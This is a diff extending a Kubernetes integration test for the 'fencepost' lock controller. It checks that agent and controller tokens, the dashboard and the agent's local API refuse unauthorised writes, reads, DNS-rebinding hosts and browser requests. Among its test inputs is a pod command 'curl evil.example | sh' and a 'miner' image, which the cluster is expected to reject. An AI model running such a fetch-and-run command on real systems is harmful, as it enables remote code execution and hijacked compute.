@@ -11,9 +11,12 @@
  *   is sent; a stale token is refused by the script; the high-water mark never moves.
  * Positive controls: the holder renews and releases its own Lease, and annotates its own pod.
  */
-import { readFileSync } from 'node:fs';
-import { resolve } from 'node:path';
-import type { KubeConfig } from '@kubernetes/client-node';
+import { execFile } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { promisify } from 'node:util';
+import type { KubeConfig, KubernetesObject, V1RoleBinding } from '@kubernetes/client-node';
 import {
   AdmissionregistrationV1Api,
   CoordinationV1Api,
@@ -32,14 +35,48 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { GROUP, PLURAL, VERSION } from '../../src/api/v1alpha1/distributedlock.ts';
 import { redisGuard } from '../../src/guards/redis-guard.ts';
 import { mergePatch } from '../../src/kube/patch.ts';
+import { jsonPatchWith } from '../../src/kube/request-options.ts';
 import { completedLease, microTime, parseLease, releasedLease, renewedLease } from '../../src/lease/record.ts';
-import { eventually, sharedRedisUrl } from '../support/env.ts';
-import { createLock, getLease, lockBody, serviceAccountKubeConfig, setPodStatus } from '../support/fixtures.ts';
+import { startDashboard, type Dashboard } from '../../src/dashboard/start.ts';
+import { silentLogger } from '../../src/observability/logger.ts';
+import { realClock } from '../../src/runtime/clock.ts';
+import { agentBinary } from '../support/agent-binary.ts';
+import { eventually, freshNamespace, sharedKubeconfigPath, sharedRedisUrl } from '../support/env.ts';
+import {
+  createLock,
+  createPod,
+  getLease,
+  lockBody,
+  serviceAccountKubeConfig,
+  setPodStatus,
+} from '../support/fixtures.ts';
+import { problemType, sendRaw } from '../support/local-api.ts';
 import { useLockController } from '../support/lock-controller.ts';
+import { findBinary } from '../support/testbed/assets.ts';
+import { freePort } from '../support/testbed/ports.ts';
+import { spawnManaged, type ManagedProcess } from '../support/testbed/processes.ts';
 import { podKeys, leaseName } from '../../src/protocol/names.ts';
 
+const run = promisify(execFile);
 const POLICY_FILE = resolve(import.meta.dirname, 'agent-policy.yaml');
+const CHART = resolve(import.meta.dirname, '../../charts/fencepost');
 const AGENT_SA = 'fencepost-agent';
+/** CONTROLLER_SA: the chart's controller ServiceAccount for release `r` (fencepost.serviceAccountName). */
+const CONTROLLER_SA = 'r-fencepost';
+/** ELECTION_LEASE: the chart's leaderElection.id. */
+const ELECTION_LEASE = 'fencepost-controller';
+
+// The classes of bad input, each counted on its own (docs/safety.md, "Bad input").
+const AGENT_LEASES = 'Lease writes with an agent token';
+const AGENT_WRITES = 'pod, Event and lock writes with an agent token';
+const AGENT_SPEC = "pod spec patches with an agent token (its own pod's image, command)";
+const CONTROLLER_PODS = "pod spec and foreign metadata patches with the controller's token";
+const CONTROLLER_LEASES = "non-dlock Lease writes with the controller's token";
+const DASHBOARD = 'dashboard raw reads of objects of no lock';
+const FOREIGN_HOST = 'local API: a foreign Host (DNS rebinding)';
+const BROWSER = 'local API: a browser Origin or Sec-Fetch-Site';
+const NOT_JSON = 'local API: form, text/plain and bodiless POSTs';
+const TOKENS = 'tokens at the Redis guard';
 
 /** failure returns the HTTP status and the API server's message of a rejected call. */
 async function failure(call: () => Promise<unknown>): Promise<{ code: number; message: string }> {
@@ -70,9 +107,25 @@ describe('bad input is refused, naming the field or the reason, and changes noth
   let asB: KubeConfig; // pod B's agent (a candidate, not the holder)
   let unbound: KubeConfig; // the agent ServiceAccount with a token bound to no pod
   let holder: { name: string; uid: string };
+  let releaseNs: string; // the chart's release namespace: the controller's ServiceAccount and its election Lease
+  let asController: KubeConfig; // a token of the chart's controller ServiceAccount, with the chart's Roles
+  let dashboard: Dashboard | undefined;
+  let agentApi: ManagedProcess | undefined; // an agent process whose local API the browser cases reach
+  let apiPort = 0;
+  let agentDir = '';
   const policyNames: string[] = [];
   const bindingNames: string[] = [];
-  const tally = { tried: 0, rejected: 0, controls: 0, allowed: 0 };
+  // Counted per class of bad input (docs/safety.md): every class must refuse all it tried, and
+  // every positive control of the class must pass.
+  const tallies = new Map<string, { tried: number; rejected: number; controls: number; allowed: number }>();
+  const tally = (category: string): { tried: number; rejected: number; controls: number; allowed: number } => {
+    let c = tallies.get(category);
+    if (c === undefined) {
+      c = { tried: 0, rejected: 0, controls: 0, allowed: 0 };
+      tallies.set(category, c);
+    }
+    return c;
+  };
 
   const tokenConfig = (bound: { name: string; uid: string } | undefined): Promise<KubeConfig> =>
     serviceAccountKubeConfig(admin, ns, AGENT_SA, bound);
@@ -196,15 +249,153 @@ describe('bad input is refused, naming the field or the reason, and changes noth
       30_000,
       250,
     );
-  }, 120_000);
+
+    // The controller's side, as the chart installs it (release "r" in releaseNs, watching ns): its
+    // Role in ns, its leader-election Role in releaseNs, their bindings, and its admission
+    // policies, rendered by helm and bound to these two namespaces only.
+    releaseNs = await freshNamespace(admin, 'badinput-rel-');
+    await fx.t.core.createNamespacedServiceAccount({
+      namespace: releaseNs,
+      body: { metadata: { name: CONTROLLER_SA } },
+    });
+    const { stdout } = await run(
+      findBinary('helm'),
+      [
+        'template',
+        'r',
+        CHART,
+        '--namespace',
+        releaseNs,
+        '--kube-version',
+        '1.36.3',
+        '--set',
+        `watchNamespaces={${ns}}`,
+        ...[
+          'controller-role',
+          'controller-rolebinding',
+          'controller-leaderelection-role',
+          'controller-leaderelection-rolebinding',
+          'controller-admission-policies',
+        ].flatMap((f) => ['--show-only', `templates/${f}.yaml`]),
+      ],
+      { maxBuffer: 8 * 1024 * 1024 },
+    );
+    for (const doc of loadAllYaml(stdout) as KubernetesObject[]) {
+      if (doc.kind === 'Role') await rbac.createNamespacedRole({ namespace: doc.metadata?.namespace ?? '', body: doc });
+      else if (doc.kind === 'RoleBinding')
+        await rbac.createNamespacedRoleBinding({
+          namespace: doc.metadata?.namespace ?? '',
+          body: doc as V1RoleBinding,
+        });
+      else if (doc.kind === 'ValidatingAdmissionPolicy') {
+        const name = `${doc.metadata?.name ?? ''}-${ns}`;
+        await adm.createValidatingAdmissionPolicy({
+          body: { ...(doc as V1ValidatingAdmissionPolicy), metadata: { name } },
+        });
+        policyNames.push(name);
+      } else if (doc.kind === 'ValidatingAdmissionPolicyBinding') {
+        const b = doc as V1ValidatingAdmissionPolicyBinding;
+        const name = `${b.metadata?.name ?? ''}-${ns}`;
+        await adm.createValidatingAdmissionPolicyBinding({
+          body: {
+            ...b,
+            metadata: { name },
+            spec: {
+              ...b.spec,
+              policyName: `${b.spec?.policyName ?? ''}-${ns}`,
+              matchResources: {
+                namespaceSelector: {
+                  matchExpressions: [{ key: 'kubernetes.io/metadata.name', operator: 'In', values: [ns, releaseNs] }],
+                },
+              },
+            },
+          },
+        });
+        bindingNames.push(name);
+      }
+    }
+    asController = await serviceAccountKubeConfig(admin, releaseNs, CONTROLLER_SA);
+    await eventually(
+      async () => {
+        const probes = await Promise.all([
+          failure(() =>
+            asController.makeApiClient(CoreV1Api).patchNamespacedPod(
+              {
+                namespace: ns,
+                name: 'pod-b',
+                body: [{ op: 'replace', path: '/spec/containers/0/image', value: 'x.example/y:1' }],
+                dryRun: 'All',
+              },
+              jsonPatchWith(undefined),
+            ),
+          ),
+          failure(() =>
+            leases(asController).createNamespacedLease({
+              namespace: ns,
+              body: { metadata: { name: 'probe-not-dlock' }, spec: {} },
+              dryRun: 'All',
+            }),
+          ),
+        ]);
+        expect(probes.map((r) => r.message)).toEqual([
+          expect.stringContaining('r-fencepost-controller-pods'),
+          expect.stringContaining('r-fencepost-controller-leases'),
+        ]);
+      },
+      30_000,
+      250,
+    );
+
+    // A pod that no lock selects, for the dashboard cases.
+    await createPod(fx.t, 'vault-0', { app: 'vault' });
+    dashboard = await startDashboard({
+      kc: admin,
+      namespace: undefined,
+      host: '127.0.0.1',
+      port: 0,
+      clock: realClock,
+      log: silentLogger,
+    });
+    await eventually(async () => {
+      expect((await fetch(new URL(`/api/locks/${ns}/${lock}`, dashboard?.url))).status).toBe(200);
+    }, 30_000);
+
+    // An agent process of its own pod and lock, for the local API cases.
+    agentDir = mkdtempSync(join(tmpdir(), 'fencepost-badinput-'));
+    const c = await createPod(fx.t, 'pod-c', { app: 'local-api' });
+    await createLock(fx.t, lockBody('local-api', 'local-api', { leaseDurationSeconds: 5, mode: 'Mutex' }));
+    apiPort = await freePort();
+    agentApi = spawnManaged('badinput-agent', agentBinary(), {
+      args: [
+        'agent',
+        '--lock',
+        'local-api',
+        '--listen',
+        `127.0.0.1:${apiPort}`,
+        '--health-probe-bind-address=0',
+        '--metrics-bind-address=0',
+        '--kubeconfig',
+        sharedKubeconfigPath(),
+      ],
+      logFile: join(agentDir, 'agent.log'),
+      env: { ...process.env, POD_NAME: 'pod-c', POD_NAMESPACE: ns, POD_UID: c.metadata?.uid ?? '' },
+    });
+    await eventually(async () => {
+      expect((await sendRaw(apiPort, 'GET', '/readyz', { host: `127.0.0.1:${apiPort}` })).status).toBe(200);
+    }, 30_000);
+  }, 180_000);
 
   afterAll(async () => {
+    await agentApi?.stop();
+    await dashboard?.stop();
+    if (agentDir !== '') rmSync(agentDir, { recursive: true, force: true });
     const adm = admin.makeApiClient(AdmissionregistrationV1Api);
     for (const name of bindingNames) await adm.deleteValidatingAdmissionPolicyBinding({ name }).catch(() => undefined);
     for (const name of policyNames) await adm.deleteValidatingAdmissionPolicy({ name }).catch(() => undefined);
-    process.stdout.write(
-      `bad input: ${tally.rejected}/${tally.tried} rejected; positive controls ${tally.allowed}/${tally.controls} allowed\n`,
-    );
+    for (const [category, c] of tallies)
+      process.stdout.write(
+        `bad input: ${category}: ${c.rejected}/${c.tried} rejected; positive controls ${c.allowed}/${c.controls} allowed\n`,
+      );
   });
 
   const lockLease = leaseName(lock);
@@ -238,8 +429,9 @@ describe('bad input is refused, naming the field or the reason, and changes noth
     metadata: { ...l.metadata, annotations: { ...l.metadata?.annotations, [k]: v } },
   });
 
-  type Who = 'A' | 'B' | 'unbound' | 'admin';
-  const as = (who: Who): KubeConfig => (who === 'A' ? asA : who === 'B' ? asB : who === 'unbound' ? unbound : admin);
+  type Who = 'A' | 'B' | 'unbound' | 'admin' | 'controller';
+  const as = (who: Who): KubeConfig =>
+    who === 'A' ? asA : who === 'B' ? asB : who === 'unbound' ? unbound : who === 'controller' ? asController : admin;
 
   /** Lease cases: the write is built from the current Lease (with its resourceVersion) and sent as `who`. */
   const leaseCases: ReadonlyArray<{
@@ -566,16 +758,36 @@ describe('bad input is refused, naming the field or the reason, and changes noth
   ];
 
   it.each(leaseCases)('Lease: $name → $code', async (c) => {
-    tally.tried++;
+    tally(AGENT_LEASES).tried++;
     const before = await lease();
     const r = await failure(() => c.write(leases(as(c.who)), before));
     expect(r.code, r.message).toBe(c.code);
     for (const s of c.says) expect(r.message).toContain(s);
     expect((await lease()).metadata?.resourceVersion, 'the Lease changed').toBe(before.metadata?.resourceVersion);
-    tally.rejected++;
+    tally(AGENT_LEASES).rejected++;
   });
 
   const keys = podKeys(lock);
+  /** image: a JSON patch that replaces the pod's container image, as `kubectl set image` would. */
+  const image = (kc: KubeConfig, pod: string): Promise<unknown> =>
+    kc.makeApiClient(CoreV1Api).patchNamespacedPod(
+      {
+        namespace: ns,
+        name: pod,
+        body: [{ op: 'replace', path: '/spec/containers/0/image', value: 'evil.example/miner:1' }],
+      },
+      jsonPatchWith(undefined),
+    );
+  /** command: a JSON patch that gives the pod's container another command. */
+  const command = (kc: KubeConfig, pod: string): Promise<unknown> =>
+    kc.makeApiClient(CoreV1Api).patchNamespacedPod(
+      {
+        namespace: ns,
+        name: pod,
+        body: [{ op: 'add', path: '/spec/containers/0/command', value: ['sh', '-c', 'curl evil.example | sh'] }],
+      },
+      jsonPatchWith(undefined),
+    );
   const podCases: ReadonlyArray<{
     name: string;
     who: Who;
@@ -583,7 +795,112 @@ describe('bad input is refused, naming the field or the reason, and changes noth
     call: (kc: KubeConfig) => Promise<unknown>;
     code: number;
     says: readonly string[];
+    /** category: the class of bad input; default AGENT_WRITES. */
+    category?: string;
   }> = [
+    {
+      name: "A changes its own pod's container image",
+      who: 'A',
+      pod: 'pod-a',
+      code: 403,
+      says: ['fencepost-agent-pods', "spec: an agent may not change its pod's spec"],
+      category: AGENT_SPEC,
+      call: (kc) => image(kc, 'pod-a'),
+    },
+    {
+      // The API server's own pod validation refuses a command change before admission (a pod's
+      // spec is immutable but for images and a few fields); the agent policy would refuse it too.
+      name: "A changes its own pod's container command",
+      who: 'A',
+      pod: 'pod-a',
+      code: 422,
+      says: ['pod updates may not change fields other than'],
+      category: AGENT_SPEC,
+      call: (kc) => command(kc, 'pod-a'),
+    },
+    {
+      name: "B changes its own pod's container image",
+      who: 'B',
+      pod: 'pod-b',
+      code: 403,
+      says: ['fencepost-agent-pods', "spec: an agent may not change its pod's spec"],
+      category: AGENT_SPEC,
+      call: (kc) => image(kc, 'pod-b'),
+    },
+    {
+      name: "the controller changes a candidate pod's container image",
+      who: 'controller',
+      pod: 'pod-b',
+      code: 403,
+      says: ['r-fencepost-controller-pods', "never the pod's spec"],
+      category: CONTROLLER_PODS,
+      call: (kc) => image(kc, 'pod-b'),
+    },
+    {
+      name: "the controller changes the holder pod's container image",
+      who: 'controller',
+      pod: 'pod-a',
+      code: 403,
+      says: ['r-fencepost-controller-pods', "never the pod's spec"],
+      category: CONTROLLER_PODS,
+      call: (kc) => image(kc, 'pod-a'),
+    },
+    {
+      name: "the controller changes a pod's container command",
+      who: 'controller',
+      pod: 'pod-b',
+      code: 422,
+      says: ['pod updates may not change fields other than'],
+      category: CONTROLLER_PODS,
+      call: (kc) => command(kc, 'pod-b'),
+    },
+    {
+      name: "the controller relabels a pod into another lock's candidate selector",
+      who: 'controller',
+      pod: 'pod-b',
+      code: 403,
+      says: ['r-fencepost-controller-pods', 'metadata.labels', 'not app'],
+      category: CONTROLLER_PODS,
+      call: (kc) =>
+        kc
+          .makeApiClient(CoreV1Api)
+          .patchNamespacedPod(
+            { namespace: ns, name: 'pod-b', body: { metadata: { labels: { app: 'payments' } } } },
+            mergePatch,
+          ),
+    },
+    {
+      name: "the controller writes an agent's request annotation on a pod",
+      who: 'controller',
+      pod: 'pod-b',
+      code: 403,
+      says: ['r-fencepost-controller-pods', 'metadata.annotations', keys.request],
+      category: CONTROLLER_PODS,
+      call: (kc) =>
+        kc.makeApiClient(CoreV1Api).patchNamespacedPod(
+          {
+            namespace: ns,
+            name: 'pod-b',
+            body: { metadata: { annotations: { [keys.request]: new Date().toISOString() } } },
+          },
+          mergePatch,
+        ),
+    },
+    {
+      name: 'the controller puts a finalizer on a pod',
+      who: 'controller',
+      pod: 'pod-b',
+      code: 403,
+      says: ['r-fencepost-controller-pods', 'metadata.finalizers'],
+      category: CONTROLLER_PODS,
+      call: (kc) =>
+        kc
+          .makeApiClient(CoreV1Api)
+          .patchNamespacedPod(
+            { namespace: ns, name: 'pod-b', body: { metadata: { finalizers: ['example.com/keep'] } } },
+            mergePatch,
+          ),
+    },
     {
       name: "A annotates B's pod",
       who: 'A',
@@ -778,7 +1095,8 @@ describe('bad input is refused, naming the field or the reason, and changes noth
   ];
 
   it.each(podCases)('Pod/lock: $name → $code', async (c) => {
-    tally.tried++;
+    const count = tally(c.category ?? AGENT_WRITES);
+    count.tried++;
     const leaseBefore = (await lease()).metadata?.resourceVersion;
     const before = await podRv(c.pod);
     const r = await failure(() => c.call(as(c.who)));
@@ -786,22 +1104,22 @@ describe('bad input is refused, naming the field or the reason, and changes noth
     for (const s of c.says) expect(r.message).toContain(s);
     expect(await podRv(c.pod), 'the pod changed').toBe(before);
     expect((await lease()).metadata?.resourceVersion, 'the Lease changed').toBe(leaseBefore);
-    tally.rejected++;
+    count.rejected++;
   });
 
   it('positive controls: the holder renews its own Lease, annotates its own pod, records an Event on its own pod, records a completed run on its own Lease, and releases its own Lease', async () => {
-    tally.controls += 5;
+    tally(AGENT_WRITES).controls += 5;
     await asA
       .makeApiClient(CoreV1Api)
       .createNamespacedEvent({ namespace: ns, body: agentEvent('pod-a', 'fencepost-agent') });
-    tally.allowed++;
+    tally(AGENT_WRITES).allowed++;
     const renewed = await leases(asA).replaceNamespacedLease({
       namespace: ns,
       name: lockLease,
       body: renewedLease(await lease(), new Date()),
     });
     expect(renewed.spec?.holderIdentity).toBe(`${holder.name}/${holder.uid}`);
-    tally.allowed++;
+    tally(AGENT_WRITES).allowed++;
     await asA.makeApiClient(CoreV1Api).patchNamespacedPod(
       {
         namespace: ns,
@@ -810,7 +1128,7 @@ describe('bad input is refused, naming the field or the reason, and changes noth
       },
       mergePatch,
     );
-    tally.allowed++;
+    tally(AGENT_WRITES).allowed++;
     const l = await lease();
     const completed = await leases(asA).replaceNamespacedLease({
       namespace: ns,
@@ -823,14 +1141,257 @@ describe('bad input is refused, naming the field or the reason, and changes noth
       }),
     });
     expect(parseLease(completed).completedRuns.map((e) => e.runId)).toContain('run-1');
-    tally.allowed++;
+    tally(AGENT_WRITES).allowed++;
     const released = await leases(asA).replaceNamespacedLease({
       namespace: ns,
       name: lockLease,
       body: releasedLease(await lease(), 'Released'),
     });
     expect(released.spec?.holderIdentity).toBeUndefined();
-    tally.allowed++;
+    tally(AGENT_WRITES).allowed++;
+  });
+
+  /** Lease writes with the controller's token that are not the protocol's: another app's Leases. */
+  const controllerLeaseCases: ReadonlyArray<{
+    name: string;
+    write: (api: CoordinationV1Api) => Promise<unknown>;
+    says: readonly string[];
+  }> = [
+    {
+      name: "creates a Lease that is not a lock's",
+      says: ['r-fencepost-controller-leases', 'not ', '/app-leader'],
+      write: (api) =>
+        api.createNamespacedLease({
+          namespace: ns,
+          body: { metadata: { name: 'app-leader' }, spec: { holderIdentity: 'r' } },
+        }),
+    },
+    {
+      name: "takes over another app's leader-election Lease",
+      says: ['r-fencepost-controller-leases', '/other-app-leader'],
+      write: async (api) => {
+        const l = await api.readNamespacedLease({ namespace: ns, name: 'other-app-leader' });
+        return api.replaceNamespacedLease({
+          namespace: ns,
+          name: 'other-app-leader',
+          body: { ...l, spec: { ...l.spec, holderIdentity: 'r-fencepost' } },
+        });
+      },
+    },
+    {
+      name: "deletes another app's leader-election Lease",
+      says: ['r-fencepost-controller-leases', '/other-app-leader'],
+      write: (api) => api.deleteNamespacedLease({ namespace: ns, name: 'other-app-leader' }),
+    },
+    {
+      name: 'creates a Lease other than its election Lease in its own namespace (its Role may create there)',
+      says: ['r-fencepost-controller-leases', 'leader-election Lease'],
+      write: (api) =>
+        api.createNamespacedLease({ namespace: releaseNs, body: { metadata: { name: 'not-the-election' }, spec: {} } }),
+    },
+  ];
+  it.each(controllerLeaseCases)("Lease: the controller's token $name → 403", async (c) => {
+    tally(CONTROLLER_LEASES).tried++;
+    const before = await leases(admin).readNamespacedLease({ namespace: ns, name: 'other-app-leader' });
+    const r = await failure(() => c.write(leases(asController)));
+    expect(r.code, r.message).toBe(403);
+    for (const w of c.says) expect(r.message).toContain(w);
+    const after = await leases(admin).readNamespacedLease({ namespace: ns, name: 'other-app-leader' });
+    expect(after.metadata?.resourceVersion, 'the Lease changed').toBe(before.metadata?.resourceVersion);
+    tally(CONTROLLER_LEASES).rejected++;
+  });
+
+  it("positive controls: the controller's token writes a lock's Lease, its election Lease and a pod's holder marks", async () => {
+    tally(CONTROLLER_LEASES).controls += 5;
+    const api = leases(asController);
+    const made = await api.createNamespacedLease({
+      namespace: ns,
+      body: { metadata: { name: leaseName('control') }, spec: { leaseDurationSeconds: 15 } },
+    });
+    tally(CONTROLLER_LEASES).allowed++;
+    await api.replaceNamespacedLease({
+      namespace: ns,
+      name: leaseName('control'),
+      body: { ...made, spec: { ...made.spec, holderIdentity: 'pod-b/uid' } },
+    });
+    tally(CONTROLLER_LEASES).allowed++;
+    await api.deleteNamespacedLease({ namespace: ns, name: leaseName('control') });
+    tally(CONTROLLER_LEASES).allowed++;
+    const election = await api.createNamespacedLease({
+      namespace: releaseNs,
+      body: { metadata: { name: ELECTION_LEASE }, spec: { holderIdentity: 'r-0', leaseDurationSeconds: 15 } },
+    });
+    tally(CONTROLLER_LEASES).allowed++;
+    await api.replaceNamespacedLease({
+      namespace: releaseNs,
+      name: ELECTION_LEASE,
+      body: { ...election, spec: { ...election.spec, renewTime: microTime(new Date()) } },
+    });
+    tally(CONTROLLER_LEASES).allowed++;
+
+    // A holder's marks for a lock of no consequence here (no DistributedLock "ghost"), put on and
+    // taken off again with the uid precondition, as the controller's pod patcher writes them.
+    tally(CONTROLLER_PODS).controls += 2;
+    const ghost = podKeys('ghost');
+    const core = asController.makeApiClient(CoreV1Api);
+    const uid = podUids.get('pod-b') ?? '';
+    await core.patchNamespacedPod(
+      {
+        namespace: ns,
+        name: 'pod-b',
+        body: {
+          metadata: {
+            uid,
+            labels: { [ghost.holder]: 'true' },
+            annotations: {
+              [ghost.token]: '7',
+              [ghost.lease]: leaseName('ghost'),
+              [ghost.acquireTime]: new Date().toISOString(),
+              [ghost.expireTime]: new Date().toISOString(),
+            },
+          },
+        },
+      },
+      mergePatch,
+    );
+    tally(CONTROLLER_PODS).allowed++;
+    await core.patchNamespacedPod(
+      {
+        namespace: ns,
+        name: 'pod-b',
+        body: {
+          metadata: {
+            uid,
+            labels: { [ghost.holder]: null },
+            annotations: {
+              [ghost.token]: null,
+              [ghost.lease]: null,
+              [ghost.acquireTime]: null,
+              [ghost.expireTime]: null,
+            },
+          },
+        },
+      },
+      mergePatch,
+    );
+    tally(CONTROLLER_PODS).allowed++;
+  });
+
+  it("the dashboard answers 404 for objects of no lock (a pod no lock selects, another Lease, Events of no lock), and serves the lock's own", async () => {
+    const get = async (path: string): Promise<{ status: number; body: string }> => {
+      const r = await fetch(new URL(path, dashboard?.url));
+      return { status: r.status, body: await r.text() };
+    };
+    const refused = [
+      `/api/raw/pods/${ns}/vault-0`,
+      `/api/raw/pods/${releaseNs}/pod-a`,
+      `/api/raw/leases/${ns}/other-app-leader`,
+      `/api/raw/leases/${releaseNs}/${ELECTION_LEASE}`,
+      `/api/raw/events/${ns}/no-such-lock`,
+      `/api/raw/events/${releaseNs}/${lock}`,
+    ];
+    for (const path of refused) {
+      tally(DASHBOARD).tried++;
+      const r = await get(path);
+      expect(r.status, `${path}: ${r.body.slice(0, 200)}`).toBe(404);
+      expect(r.body).not.toContain('example.invalid');
+      tally(DASHBOARD).rejected++;
+    }
+    // The holder now: the positive controls above released pod-a's term, and the lock was granted again.
+    const now = await eventually(async () => {
+      const h = (await getLease(fx.t, lock))?.spec?.holderIdentity?.split('/')[0];
+      expect(h).toBeDefined();
+      return h ?? '';
+    }, 30_000);
+    for (const path of [
+      `/api/raw/pods/${ns}/${now}`,
+      `/api/raw/leases/${ns}/${lockLease}`,
+      `/api/raw/events/${ns}/${lock}`,
+    ]) {
+      tally(DASHBOARD).controls++;
+      // eventually: the dashboard's Lease watch may not have seen the new grant yet.
+      await eventually(async () => {
+        const r = await get(path);
+        expect(r.status, `${path}: ${r.body.slice(0, 200)}`).toBe(200);
+      }, 10_000);
+      tally(DASHBOARD).allowed++;
+    }
+  });
+
+  it("the agent's local API refuses a foreign Host, a browser and form or bodiless POSTs, and serves programs", async () => {
+    const local = { host: `127.0.0.1:${apiPort}` };
+    const json = { ...local, 'content-type': 'application/json' };
+    const refuse = async (
+      category: string,
+      type: string,
+      status: number,
+      method: string,
+      path: string,
+      headers: Readonly<Record<string, string>>,
+      body?: string,
+    ): Promise<void> => {
+      tally(category).tried++;
+      const a = await sendRaw(apiPort, method, path, headers, body);
+      expect(a.status, `${method} ${path} ${JSON.stringify(headers)}: ${a.body}`).toBe(status);
+      expect(problemType(a)).toBe(`https://fencepost.io/problems/${type}`);
+      tally(category).rejected++;
+    };
+    for (const host of [
+      `evil.example:${apiPort}`,
+      'evil.example',
+      `127.0.0.1.evil.example:${apiPort}`,
+      `10.0.0.1:${apiPort}`,
+    ]) {
+      await refuse(FOREIGN_HOST, 'foreign-host', 403, 'GET', '/v1/locks/local-api', { host });
+      await refuse(FOREIGN_HOST, 'foreign-host', 403, 'GET', '/v1/locks/local-api/events', { host });
+      await refuse(
+        FOREIGN_HOST,
+        'foreign-host',
+        403,
+        'POST',
+        '/v1/locks/local-api/acquire',
+        { host, 'content-type': 'application/json' },
+        '{}',
+      );
+    }
+    for (const extra of [
+      { origin: 'http://evil.example' },
+      { origin: 'null' },
+      { origin: `http://127.0.0.1:${apiPort}` },
+      { 'sec-fetch-site': 'cross-site' },
+      { 'sec-fetch-site': 'same-site' },
+    ]) {
+      await refuse(BROWSER, 'browser-request', 403, 'GET', '/v1/locks/local-api', { ...local, ...extra });
+      await refuse(BROWSER, 'browser-request', 403, 'POST', '/v1/locks/local-api/acquire', { ...json, ...extra }, '{}');
+    }
+    for (const [headers, body] of [
+      [local, undefined],
+      [{ ...local, 'content-type': 'application/x-www-form-urlencoded' }, 'wait=10s'],
+      [{ ...local, 'content-type': 'multipart/form-data; boundary=x' }, '--x--\r\n'],
+      [{ ...local, 'content-type': 'text/plain' }, '{}'],
+      [json, undefined],
+      [json, 'wait=10s'],
+    ] as const)
+      for (const path of ['/v1/locks/local-api/acquire', '/v1/locks/local-api/release', '/v1/locks/local-api/drained'])
+        await refuse(NOT_JSON, 'json-body-required', 415, 'POST', path, headers, body);
+    // Nothing of the refused requests reached the pod: it asked for nothing.
+    const pod = await fx.t.core.readNamespacedPod({ namespace: ns, name: 'pod-c' });
+    expect(pod.metadata?.annotations?.[podKeys('local-api').request]).toBeUndefined();
+
+    for (const category of [FOREIGN_HOST, BROWSER]) tally(category).controls++;
+    const read = await sendRaw(apiPort, 'GET', '/v1/locks/local-api', {
+      host: `localhost:${apiPort}`,
+      'sec-fetch-site': 'none',
+    });
+    expect(read.status, read.body).toBe(200);
+    for (const category of [FOREIGN_HOST, BROWSER]) tally(category).allowed++;
+    tally(NOT_JSON).controls += 2;
+    const held = await sendRaw(apiPort, 'POST', '/v1/locks/local-api/acquire?wait=30s', json, '{}');
+    expect(held.status, held.body).toBe(200);
+    tally(NOT_JSON).allowed++;
+    const released = await sendRaw(apiPort, 'POST', '/v1/locks/local-api/release', json, '{}');
+    expect(released.status, released.body).toBe(200);
+    tally(NOT_JSON).allowed++;
   });
 
   describe('tokens at the Redis guard', () => {
@@ -861,19 +1422,19 @@ describe('bad input is refused, naming the field or the reason, and changes noth
     it.each(malformed)(
       'refuses a token that is %s, before sending anything, and the mark stays',
       async (_what, token) => {
-        tally.tried++;
+        tally(TOKENS).tried++;
         const guard = redisGuard(client);
         await expect(guard.write(key, token as string, 'forged')).rejects.toThrow(
           /fencing token for badinput:.*(decimal|exceeds)/,
         );
         expect(await guard.highWater(key)).toBe(100n);
         expect(await client.get(key)).toBe('written with 100');
-        tally.rejected++;
+        tally(TOKENS).rejected++;
       },
     );
 
     it('refuses a stale token (below the mark, by one at 2^53) and never raises the mark', async () => {
-      tally.tried += 2;
+      tally(TOKENS).tried += 2;
       const guard = redisGuard(client);
       expect(await guard.write(key, '99', 'stale')).toEqual({ accepted: false, reason: 'stale', highWater: 100n });
       await guard.write(key, '9007199254740993', 'big');
@@ -883,7 +1444,27 @@ describe('bad input is refused, naming the field or the reason, and changes noth
         highWater: 9007199254740993n,
       });
       expect(await client.get(key)).toBe('big');
-      tally.rejected += 2;
+      tally(TOKENS).rejected += 2;
     });
+  });
+
+  it('refused every bad input it tried in every class, and passed every positive control', () => {
+    for (const category of [
+      AGENT_LEASES,
+      AGENT_WRITES,
+      AGENT_SPEC,
+      CONTROLLER_PODS,
+      CONTROLLER_LEASES,
+      DASHBOARD,
+      FOREIGN_HOST,
+      BROWSER,
+      NOT_JSON,
+      TOKENS,
+    ]) {
+      const c = tally(category);
+      expect(c.tried, category).toBeGreaterThan(0);
+      expect(c.rejected, category).toBe(c.tried);
+      expect(c.allowed, category).toBe(c.controls);
+    }
   });
 });
